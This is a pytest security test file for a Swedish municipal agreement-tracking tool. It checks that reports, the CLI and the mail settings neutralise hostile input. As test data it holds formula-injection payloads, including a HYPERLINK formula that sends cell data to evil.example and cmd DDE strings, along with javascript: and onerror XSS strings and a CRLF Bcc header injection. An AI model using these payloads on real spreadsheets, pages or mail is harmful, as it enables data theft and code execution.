"""Issue 14, reports and the CLI: what a hostile comment, title, id, value or setting can no longer do.

Each test reproduces a finding of the outside attack the way it was made: a comment
written through a reminder link and read back in the report's CSV and Markdown, an id
typed at the CLI and at ``/atagande/<id>``, a ``--db`` that is not a database, a
database that cannot be written, an SMTP server that refuses the login, ``--hours inf``,
a sender name that breaks every mail, and ``report --out`` that fails at the last step.
"""

from __future__ import annotations

import csv
import io
import logging
import os
import re
from collections.abc import Iterator
from datetime import datetime
from pathlib import Path
from typing import Any

import httpx2 as httpx
import pytest
from aiosmtpd.controller import Controller
from aiosmtpd.smtp import AuthResult
from apscheduler.schedulers.blocking import BlockingScheduler
from markdown_it import MarkdownIt
from sqlalchemy import Engine, create_engine, select

from engine import db
from engine.agreement import Agreement
from engine.api import commands
from engine.clock import FixedClock
from engine.models import AreaRow, Commitment, EffortRow, FollowUp, OutboxRow
from engine.plan import load_plan
from notifications.report import csv_cell
from notifications.settings import Settings, SmtpSettings, load_settings
from rules.errors import InvalidValue
from rules.hours import MAX_HOURS
from samverkan import run as runner
from tests.notifications.conftest import Sink, free_port
from tests.security.conftest import Cli, Live
from tests.web.conftest import at as local_at
from tests.web.conftest import start_server, stop_server
from web.app import create_app

ROOT = Path(__file__).resolve().parents[2]
BORAS = ROOT / "config" / "boras-2015.yaml"
MBU = "boras.mbu.kommun"
FORMULAS = (
    '=HYPERLINK("http://evil.example/?d="&A1,"klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
)
# Commitments the first reminders went out for (boras_due), one hostile comment each.
TARGETS = (
    "boras.mbu.kommun",
    "boras.mbu.polis",
    "boras.sspf.kommun",
    "boras.rent-och-snyggt.kommun",
)


def url_of(engine: Engine) -> str:
    return engine.url.render_as_string(hide_password=False)


def post_follow_up(live: Live, kit: Any, commitment: str, comment: str) -> None:
    """The attacker's way in: the reminder's link, no sign-in, the form's own fields."""
    with live.client() as c:
        page = c.get(kit.link_path(commitment))
        assert page.status_code == 200, page.text
        data = {"csrf": kit.csrf_of(page.text), "kommentar": comment, "namn": "Någon"}
        data.update({name: "2" for name in re.findall(r'<input type="number"[^>]* name="(m_[^"]+)"', page.text)})
        data.update({name: "Se kommentaren" for name in re.findall(r'<textarea[^>]* name="(m_[^"]+)"', page.text)})
        answer = c.post(kit.link_path(commitment), data=data, follow_redirects=True)
        assert answer.status_code == 200 and "registrerad" in answer.text, answer.text


# -- 1. spreadsheet formulas ---------------------------------------------------------------


DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(data: bytes) -> list[list[str]]:
    """The cells of the CSV for Swedish Excel (UTF-8 with BOM, ;-separated)."""
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def test_a_formula_in_a_comment_is_text_in_the_csv_report_from_the_web_and_the_cli(
    live: Live, cli: Cli, kit: Any, tmp_path: Path
) -> None:
    for commitment, formula in zip(TARGETS, FORMULAS, strict=True):
        post_follow_up(live, kit, commitment, formula)
    owner = live.signed_in(kit.OWNER)
    answer = owner.get("/rapport/2026.csv")
    owner.close()
    assert answer.status_code == 200
    out = tmp_path / "rapport.csv"
    code, _, err = cli("report", "--db", url_of(live.engine), "--period", "2026", "--format", "csv", "--out", str(out))
    assert code == 0, err
    for data in (answer.content, out.read_bytes()):
        rows = _cells(data)
        comments = [row[rows[0].index("Kommentar")] for row in rows[1:]]
        for formula in FORMULAS:
            assert "'" + formula in comments, (formula, comments)
        for row in rows[1:]:
            for cell in row:
                assert not cell.startswith(DANGEROUS), (cell, row)


def test_a_number_stays_a_number_and_text_that_looks_like_one_is_quoted() -> None:
    # OWASP: the rule is for text. A value that is a number is written as a number,
    # negative too (a spreadsheet reads -3 as minus three, not as a formula); text that
    # begins with a minus is quoted, since "-2+3+cmd|…" is text that looks like arithmetic.
    assert csv_cell(-3) == "-3"
    assert csv_cell(2.5) == "2.5"
    assert csv_cell(2026) == "2026"
    assert csv_cell("-3") == "'-3"
    assert csv_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert csv_cell("Antal: 2") == "Antal: 2"
    assert csv_cell("") == ""
    for lead in DANGEROUS:
        assert csv_cell(lead + "x") == "'" + lead + "x"


# -- 2. the Markdown report ----------------------------------------------------------------


# Titles are one line (a line break in a title is the agreement file's to refuse); comments are not.
HOSTILE_TITLE = "# Rubrik ![spår](http://evil.example/p.png) [klick](javascript:alert(1)) <b>fet</b> *k* | x &amp;"
HOSTILE_EFFORT = "- [länk](http://evil.example) 1. ## Injicerad"
HOSTILE_UNIT = "![x](http://evil.example/u.png) <img src=x onerror=alert(1)>"
HOSTILE_COMMENT = (
    "Bra år.\n# Falsk rubrik\n- falsk punkt\n> citat\n![x](http://evil.example/c.png) [klick](javascript:alert(1))"
)


@pytest.fixture
def hostile(engine: Engine, boras: Agreement) -> Engine:
    """Borås with its first area, first effort and every unit named to inject Markdown."""
    data = boras.model_dump(mode="python", exclude_none=True)
    data["agreement"]["title"] = "1. " + HOSTILE_TITLE
    data["areas"][0]["title"] = HOSTILE_TITLE
    data["areas"][0]["efforts"][0]["title"] = HOSTILE_EFFORT
    for unit in data["units"]:
        unit["name"] = HOSTILE_UNIT
    for party in data["parties"]:
        party["name"] = "[" + party["name"] + "](javascript:alert(1))"
    with db.transaction(engine) as s:
        load_plan(s, Agreement.model_validate(data), now=at(2016, 1, 4))
    return engine


def at(y: int, m: int, d: int) -> datetime:
    return local_at(y, m, d, 9)


def flat(md: str) -> list[Any]:
    """Every token of ``md`` as GitHub-like Markdown (CommonMark and tables) reads it, in order."""
    out: list[Any] = []

    def walk(tokens: list[Any]) -> None:
        for t in tokens:
            out.append(t)
            walk(t.children or [])

    walk(MarkdownIt("commonmark").enable("table").parse(md))
    return out


def shown(inline: Any) -> str:
    """What a reader sees of an inline token: its text, escapes resolved."""
    return "".join(c.content for c in inline.children or [] if c.type in ("text", "code_inline"))


def test_hostile_titles_names_and_comments_inject_no_link_image_html_heading_or_list_into_the_markdown(
    hostile: Engine, cli: Cli, tmp_path: Path
) -> None:
    url = url_of(hostile)
    with db.transaction(hostile) as s:
        first = s.scalars(select(Commitment).where(Commitment.effort_id == "bra-samordning")).all()
    cli.clock = FixedClock(at(2016, 1, 5))
    for c in first:
        assert cli("transition", "--db", url, c.id, "start", "--by", "x", "--why", "y")[0] == 0
    cli.clock = FixedClock(at(2017, 3, 1))
    c = next(c for c in first if c.party == "kommun")
    argv = ["followup", "--db", url, c.id, "--period", "2016", "--comment", HOSTILE_COMMENT, "--by", "[by](http://e)"]
    argv += ["--value", "antal-moten=0", "--value", "representation=![r](http://evil.example/r.png)"]
    code, _, err = cli(*argv)
    assert code == 0, err
    out = tmp_path / "rapport.md"
    # The process owner's analysis, written as Markdown by someone who means it.
    analysis = tmp_path / "analys.md"
    analysis.write_text(
        "# Falsk rubrik i analysen\n\n- Injicerad lista\n1. Injicerad numrerad\n\n> citat\n\n"
        "![x](http://evil.example/x.png) <img src=x> [klick](javascript:alert(1))\n```\nkod\n```\n",
        encoding="utf-8",
    )
    argv = ["report", "--db", url, "--period", "2016", "--format", "md", "--out", str(out)]
    code, _, err = cli(*argv, "--analysis", str(analysis), "--by", "[by](http://e)")
    assert code == 0, err
    md = out.read_text(encoding="utf-8")
    tokens = flat(md)

    kinds = {t.type for t in tokens}
    assert not kinds & {"link_open", "image", "html_block", "blockquote_open", "ordered_list_open", "fence"}, kinds
    assert {t.content for t in tokens if t.type == "html_inline"} <= {"<br>"}  # the table's own line breaks
    headings = [shown(tokens[i + 1]) for i, t in enumerate(tokens) if t.type == "heading_open"]
    with db.transaction(hostile) as s:
        areas = len(s.scalars(select(AreaRow.id)).all())
    # The report's own headings and no other: the title, the summary, the analysis, one per area, the missing list.
    assert len(headings) == 4 + areas, headings
    assert headings[0] == "1. " + HOSTILE_TITLE and headings[3] == "1. " + HOSTILE_TITLE, headings
    assert headings[2] == "Analys och slutsatser", headings
    assert not any("Falsk" in h or "Injicerad" in h for h in headings), headings
    # Lists: the summary's (any deviations nested under it) and the missing one, nothing injected.
    nested = 0 if "Avvikelser (under målet): 0" in md else 1
    assert sum(t.type == "bullet_list_open" for t in tokens) == 2 + nested, md
    text = " ".join(t.content for t in tokens if t.type == "text")
    for typed in (HOSTILE_TITLE, HOSTILE_EFFORT, HOSTILE_UNIT, "# Falsk rubrik", "[by](http://e)", "- Injicerad lista"):
        assert typed in text, typed  # every word is kept, as text


# -- 3. LIKE wildcards and over-long ids -----------------------------------------------------


def test_like_wildcards_in_an_id_match_nothing(live: Live, cli: Cli, kit: Any) -> None:
    url = url_of(live.engine)
    before = states(live.engine)
    owner = live.signed_in(kit.OWNER)
    for key in ("vbe.k%", "mbu.k_mmun", "%", "_", "%kommun", "m\\bu.kommun"):
        code, _, err = cli("transition", "--db", url, key, "end", "--by", "x", "--why", "y")
        assert (code, err.count("\n")) == (2, 1), err
        assert "okänt åtagande" in err, err
        answer = owner.get(f"/atagande/{key.replace('%', '%25')}")
        assert answer.status_code == 404 and "Sidan finns inte" in answer.text, key
    owner.close()
    assert states(live.engine) == before


def test_an_id_of_60000_characters_is_unknown_not_a_traceback_or_500(live: Live, cli: Cli, kit: Any) -> None:
    key = "%a" * 30_000
    code, _, err = cli("history", "--db", url_of(live.engine), key)
    assert (code, err.count("\n")) == (2, 1), err
    assert "okänt åtagande" in err and len(err) < 400
    owner = live.signed_in(kit.OWNER)
    answer = owner.get("/atagande/" + "a" * 60_000)  # past SQLite's 50,000-byte LIKE pattern
    owner.close()
    assert answer.status_code == 404 and "Sidan finns inte" in answer.text


def test_a_short_id_still_finds_its_commitment(live: Live, cli: Cli) -> None:
    code, out, err = cli("history", "--db", url_of(live.engine), "mbu.kommun")
    assert code == 0 and out.startswith("boras.mbu.kommun:"), err


def states(engine: Engine) -> dict[str, str]:
    with db.transaction(engine) as s:
        return {c.id: c.state for c in s.scalars(select(Commitment))}


# -- 5. values accepted, then failing: hours ------------------------------------------------


def follow_ups(engine: Engine) -> list[tuple[str, float | None]]:
    with db.transaction(engine) as s:
        return [(f.commitment_id, f.hours) for f in s.scalars(select(FollowUp))]


NOT_HOURS = ("inf", "-inf", "1e309", "nan", "Infinity", "-1", "10000.5", "1e6", "--")


def test_hours_that_are_not_a_year_of_work_are_refused_by_the_cli_and_the_web_form(
    live: Live, cli: Cli, kit: Any
) -> None:
    argv = ["followup", "--db", url_of(live.engine), "mbu.polis", "--period", "2026", "--value", "utbildningar=2"]
    for typed in NOT_HOURS:
        code, _, err = cli(*argv, "--comment", "x", "--by", "y", f"--hours={typed}")
        assert (code, err.count("\n")) == (2, 1), err
        assert err.startswith("samverkan: fel: --hours: ska vara ett tal mellan 0 och 10 000"), err
        with live.client() as c:
            page = c.get(kit.link_path(MBU))
            data = {"csrf": kit.csrf_of(page.text), "kommentar": "x", "namn": "y", "m_utbildningar": "2"}
            answer = c.post(kit.link_path(MBU), data={**data, "timmar": typed})
        assert answer.status_code == 400 and "Ange timmar som ett tal mellan 0 och 10 000" in answer.text, typed
    assert follow_ups(live.engine) == []


def test_the_engine_refuses_non_finite_hours_whoever_calls_it(live: Live, kit: Any) -> None:
    for hours in (float("inf"), float("nan"), MAX_HOURS + 1, -0.5):
        with pytest.raises(InvalidValue, match=r"^hours: ska vara ett tal mellan 0 och 10 000"):
            commands.record_follow_up(
                live.engine,
                MBU,
                period=2026,
                values={"utbildningar": 2},
                comment="x",
                by="y",
                now=kit.at(2027, 3, 1),
                hours=hours,
            )
    assert follow_ups(live.engine) == []


def test_hours_up_to_the_bound_are_recorded_with_a_decimal_comma(cli: Cli, live: Live) -> None:
    cli.clock = live.clock
    argv = ["followup", "--db", url_of(live.engine), "mbu.polis", "--period", "2026", "--value", "utbildningar=2"]
    assert cli(*argv, "--comment", "x", "--by", "y", "--hours", "10 000")[0] == 0
    argv[3] = "mbu.kommun"
    assert cli(*argv, "--comment", "x", "--by", "y", "--hours", "12,5")[0] == 0
    assert sorted(follow_ups(live.engine)) == [("boras.mbu.kommun", 12.5), ("boras.mbu.polis", 10_000.0)]


def test_an_option_whose_value_is_a_double_dash_is_one_swedish_line(live: Live, cli: Cli) -> None:
    """``--hours=--`` reached the command as an empty list (the fuzzer's AttributeError on a 'list')."""
    for option in ("--hours", "--period", "--comment", "--by", "--value", "--now"):
        given = {"--period": "2026", "--comment": "x", "--by": "y", "--value": "utbildningar=2", option: "--"}
        argv = ["followup", "--db", url_of(live.engine), "mbu.polis", *(f"{k}={v}" for k, v in given.items())]
        code, _, err = cli(*argv)
        assert (code, err.count("\n")) == (2, 1), (option, err)
        assert err.startswith("samverkan: fel: "), err
    assert follow_ups(live.engine) == []


# -- 6. report --out leaves nothing half-way -------------------------------------------------


def test_a_report_whose_last_step_fails_leaves_no_tmp_file_holding_it(live: Live, cli: Cli, tmp_path: Path) -> None:
    out = tmp_path / "rapport"
    out.mkdir()
    (out / "annat").write_text("något annat", encoding="utf-8")  # a directory the rename cannot replace
    code, _, err = cli("report", "--db", url_of(live.engine), "--period", "2026", "--out", str(out))
    assert (code, err.count("\n")) == (2, 1), err
    assert err.startswith(f"samverkan: fel: --out: {out}: kan inte skrivas"), err
    assert not (tmp_path / "rapport.tmp").exists()
    assert [p.name for p in out.iterdir()] == ["annat"]


# -- 4. one line instead of a traceback: the database -----------------------------------------


def test_a_db_that_is_a_text_file_is_one_swedish_line_and_stays_as_it_was(cli: Cli, tmp_path: Path) -> None:
    notes = tmp_path / "anteckningar.txt"
    notes.write_text("inte en databas\n", encoding="utf-8")
    for argv in (["status"], ["init", "--config", str(BORAS)], ["tick"], ["history", "mbu.kommun"]):
        code, _, err = cli(argv[0], "--db", f"sqlite:///{notes}", *argv[1:])
        assert (code, err.count("\n")) == (2, 1), (argv, err)
        assert "filen är ingen SQLite-databas" in err, err
    assert notes.read_text(encoding="utf-8") == "inte en databas\n"


def read_only(engine: Engine) -> str:
    """The same database, opened so that every write is refused (as root too, unlike a file mode)."""
    url = engine.url
    if url.get_backend_name() == "sqlite":
        return f"sqlite:///file:{url.database}?mode=ro&uri=true"
    options = url.query["options"]
    return url.update_query_dict({"options": f"{options} -cdefault_transaction_read_only=on"}).render_as_string(
        hide_password=False
    )


def test_every_write_to_a_read_only_database_is_one_swedish_line_and_writes_nothing(
    live: Live, cli: Cli, tmp_path: Path
) -> None:
    url = read_only(live.engine)
    before = states(live.engine), follow_ups(live.engine), outbox(live.engine)
    cli.clock = live.clock
    writes = (
        ["transition", "--db", url, "mbu.kommun", "end", "--by", "x", "--why", "y"],
        ["followup", "--db", url, "mbu.kommun", "--period=2026", "--value=utbildningar=2", "--comment=x", "--by=y"],
        ["tick", "--db", url, "--now", "2027-04-20T09:00"],
        ["deliver", "--db", url, "--now", "2027-03-01T09:00"],
        ["notify-change", "--db", url, "--party", "polis", "--text", "Ny chef", "--by", "P"],
    )
    for argv in writes:
        code, _, err = cli(*argv)
        assert (code, err.count("\n")) == (2, 1), (argv, err)
        assert "inget ändrades" in err, err
    assert (states(live.engine), follow_ups(live.engine), outbox(live.engine)) == before
    # Reading still works.
    code, _, err = cli("report", "--db", url, "--period", "2026", "--out", str(tmp_path / "r.html"))
    assert code == 0, err


def test_a_web_form_on_a_read_only_database_is_a_swedish_503_page_that_saved_nothing(
    live: Live, kit: Any, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    ro = create_engine(read_only(live.engine))
    settings = Settings(mailer="file", mail_dir=tmp_path / "ro-outbox", base_url="http://testserver")
    server = start_server(create_app(ro, settings, live.clock, secret=kit.SECRET))
    try:
        with httpx.Client(base_url=server.url, follow_redirects=False, timeout=30) as c:
            form = c.get(kit.link_path("boras.mbu.kommun"))
            assert form.status_code == 200  # reading works
            data = {"csrf": kit.csrf_of(form.text), "m_utbildningar": "2", "kommentar": "Klart.", "namn": "Frida"}
            with caplog.at_level(logging.WARNING):
                answer = c.post(kit.link_path("boras.mbu.kommun"), data=data)
    finally:
        stop_server(server)
        ro.dispose()
    assert answer.status_code == 503, answer.text
    assert "Inget har sparats" in answer.text and "skrivskyddad" in answer.text
    assert answer.headers["content-security-policy"]  # the refusal is a page like any other
    assert follow_ups(live.engine) == []
    assert not [r for r in caplog.records if r.exc_info], "a refusal a person can fix is no traceback"


@pytest.mark.skipif(os.geteuid() == 0, reason="root writes a file whatever its mode; ?mode=ro covers root")
def test_a_database_file_without_write_permission_is_one_swedish_line(cli: Cli, tmp_path: Path) -> None:
    path = tmp_path / "samverkan.db"
    url = f"sqlite:///{path}"
    assert cli("init", "--db", url, "--config", str(BORAS))[0] == 0
    path.chmod(0o444)
    code, _, err = cli("transition", "--db", url, "mbu.kommun", "start", "--by", "x", "--why", "y")
    assert (code, err.count("\n")) == (2, 1) and "skrivskyddad" in err, err


def outbox(engine: Engine) -> list[tuple[int, str, int]]:
    with db.transaction(engine) as s:
        return sorted((r.id, r.state, r.attempts) for r in s.scalars(select(OutboxRow)))


# -- 4. one line instead of a traceback: the SMTP login ---------------------------------------


class RefuseEveryLogin:
    """An aiosmtpd authenticator that knows no one: every AUTH is answered 535."""

    def __call__(self, server: Any, session: Any, envelope: Any, mechanism: str, auth_data: Any) -> AuthResult:
        return AuthResult(success=False, handled=False)


@pytest.fixture
def smtp_refusing_login() -> Iterator[tuple[int, Sink]]:
    sink, port = Sink(), free_port()
    controller = Controller(
        sink,
        hostname="127.0.0.1",
        port=port,
        authenticator=RefuseEveryLogin(),
        auth_required=True,
        auth_require_tls=False,
    )
    controller.start()
    yield port, sink
    controller.stop()


# AUTH without TLS on purpose: the server is this test's, on 127.0.0.1.
@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS:UserWarning")
def test_an_smtp_login_the_server_refuses_is_one_line_and_leaves_the_outbox_as_it_was(
    live: Live, cli: Cli, tmp_path: Path, smtp_refusing_login: tuple[int, Sink], monkeypatch: pytest.MonkeyPatch
) -> None:
    port, sink = smtp_refusing_login
    settings = tmp_path / "utskick.yaml"
    settings.write_text(
        "mailer: smtp\nsender: samverkan@boras.example\n"
        f"smtp:\n  host: 127.0.0.1\n  port: {port}\n  user: samverkan\n  password_env: SMTP_LOSEN\n",
        encoding="utf-8",
    )
    monkeypatch.setenv("SMTP_LOSEN", "fel lösenord")
    before = outbox(live.engine)
    assert sum(state == "pending" for _, state, _ in before) == 28
    argv = ["deliver", "--db", url_of(live.engine), "--settings", str(settings), "--now", "2027-03-01T08:00"]
    code, _, err = cli(*argv)
    # Exit 2: the settings are wrong (a person's to fix), and running it again will not help until they are.
    assert (code, err.count("\n")) == (2, 1), err
    assert err.startswith("samverkan: fel: smtp.user: SMTP-servern 127.0.0.1:") and "535" in err, err
    assert "inloggningen" in err and "SMTP_LOSEN" in err and "fel lösenord" not in err, err
    assert outbox(live.engine) == before  # still pending, no attempt counted, nothing failed
    assert sink.received == []


@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS:UserWarning")
def test_run_says_the_login_was_refused_not_that_the_tick_failed(
    live: Live, smtp_refusing_login: tuple[int, Sink], caplog: pytest.LogCaptureFixture
) -> None:
    port, _ = smtp_refusing_login
    settings = Settings(
        mailer="smtp",
        sender="samverkan@boras.example",
        smtp=SmtpSettings(host="127.0.0.1", port=port, user="samverkan", password_env="PATH", timeout_seconds=5),
    )
    before = outbox(live.engine)
    scheduler = BlockingScheduler(timezone=runner.ZONE)  # never started: the next wake-up stays pending
    caplog.set_level(logging.INFO, logger="samverkan.run")
    runner.wake(live.engine, FixedClock(live.clock.now()), scheduler, settings)
    (line,) = [r.getMessage() for r in caplog.records if r.name == "samverkan.run"]
    assert line.startswith("utskicket avbröts: smtp.user: SMTP-servern") and "535" in line, line
    assert "tick misslyckades" not in caplog.text and "Traceback" not in caplog.text
    assert outbox(live.engine) == before
    assert len(scheduler.get_jobs()) == 1


# -- 5. values accepted, then failing: the sender name -----------------------------------------


@pytest.mark.parametrize(
    ("yaml_text", "line", "said"),
    [
        (
            'sender_name: "BråB\\r\\nBcc: x@evil.example"\n',
            1,
            "sender_name: rubrikfältet From vägras: innehåller radbrytning",
        ),
        (
            'mailer: file\nsender_name: "=?utf-8?q?Hej?="\n',
            2,
            "sender_name: rubrikfältet From vägras: innehåller en kodad",
        ),
        (f"sender_name: {'B' * 101}\n", 1, "sender_name: högst 100 tecken, inte 101"),
        (
            'agreements:\n  boras:\n    sender_name: "a\\tb"\n',
            3,
            "agreements.boras.sender_name: rubrikfältet From vägras",
        ),
    ],
)
def test_a_sender_name_no_mail_can_carry_is_refused_when_the_settings_are_read(
    boras_due: Engine, cli: Cli, tmp_path: Path, yaml_text: str, line: int, said: str
) -> None:
    path = tmp_path / "utskick.yaml"
    path.write_text(yaml_text, encoding="utf-8")
    before = outbox(boras_due)
    code, _, err = cli("deliver", "--db", url_of(boras_due), "--settings", str(path), "--now", "2027-03-01T08:00")
    assert (code, err.count("\n")) == (2, 1), err
    assert err.startswith(f"samverkan: fel: {path}:{line}: {said}"), err
    assert outbox(boras_due) == before


def test_a_sender_name_with_swedish_letters_and_a_dash_is_fine(tmp_path: Path) -> None:
    path = tmp_path / "utskick.yaml"
    path.write_text("sender_name: Brottsförebyggande rådet i Borås – BråB\n", encoding="utf-8")
    assert load_settings(path).sender_name == "Brottsförebyggande rådet i Borås – BråB"


def test_rich_markup_in_a_title_or_a_reason_is_shown_as_written_in_the_terminal_tables(
    boras_due: Engine, cli: Cli
) -> None:
    hostile = "[link=http://evil.example]klick[/link] [bold red]X[/]"
    with db.transaction(boras_due) as s:
        effort = s.get(EffortRow, ("boras", "mbu"))
        assert effort is not None
        effort.title = hostile
    url = boras_due.url.render_as_string(hide_password=False)
    code, out, err = cli("status", "--db", url)
    assert code == 0, err
    assert hostile in out  # as written: no hyperlink, no style
    cli.clock = FixedClock(local_at(2027, 5, 1, 9))  # the follow-ups of 2026 are late by now
    code, out, err = cli("overdue", "--db", url)
    assert code == 0, err
    assert "[link=http://evil.example]klick" in out
